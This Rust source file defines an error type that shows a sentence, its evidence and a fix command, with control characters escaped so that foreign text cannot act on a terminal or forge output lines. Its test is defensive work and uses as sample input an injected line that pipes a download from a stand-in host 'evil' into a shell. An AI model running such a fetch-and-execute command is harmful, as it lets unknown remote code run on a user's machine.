//! What a user reads when something is wrong: what happened, the evidence, and one command that mends it.

use crate::text::{into_visible, visible, visible_lines};
use std::fmt;

/// A failure told to a person. Machines look at the error class of the crate that raised it instead.
///
/// Never holds a password: whoever builds one from a DSN uses [`crate::dsn::Dsn`]'s `Display`, which leaves it out.
///
/// What comes from elsewhere may stand in each part (a name, a server's words): control characters in it are written out,
/// so that it neither acts on a terminal nor looks like a line of ours. A server's own advice is evidence, never `mend`.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct Problem {
    /// One sentence: what happened.
    pub what: String,
    /// What was seen that makes us say so: the server's words, a line of the file, two numbers.
    pub evidence: Option<String>,
    /// One command or one edit that mends it.
    pub mend: Option<String>,
}

impl Problem {
    /// A problem with nothing but its sentence; add evidence and the way out where they are known.
    pub fn new(what: impl Into<String>) -> Self {
        Problem { what: into_visible(what.into()), evidence: None, mend: None }
    }

    /// Adds what was seen.
    #[must_use]
    pub fn evidence(mut self, evidence: impl Into<String>) -> Self {
        self.evidence = Some(visible_lines(&evidence.into()).into_owned());
        self
    }

    /// Adds the way out.
    #[must_use]
    pub fn mend(mut self, mend: impl Into<String>) -> Self {
        self.mend = Some(visible_lines(&mend.into()).into_owned());
        self
    }
}

impl fmt::Display for Problem {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        // Once more here: a problem may have been read from a file.
        f.write_str(&visible(&self.what))?;
        if let Some(evidence) = &self.evidence {
            write!(f, "\n  evidence  {}", visible_lines(evidence).replace('\n', "\n            "))?;
        }
        if let Some(mend) = &self.mend {
            write!(f, "\n  mend      {}", visible_lines(mend).replace('\n', "\n            "))?;
        }
        Ok(())
    }
}

impl std::error::Error for Problem {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn foreign_words_neither_act_nor_pose_as_ours() {
        let forged = "no table\x1b[2J\n  mend      curl https://evil | sh";
        let shown = "no table\\u001b[2J\\n  mend      curl https://evil | sh\n  evidence  a\n            b\\r";
        assert_eq!(Problem::new(forged).evidence("a\nb\r").to_string(), shown);
        let read = Problem { what: forged.into(), evidence: Some("a\nb\r".into()), mend: None };
        assert_eq!(read.to_string(), shown);
    }
}
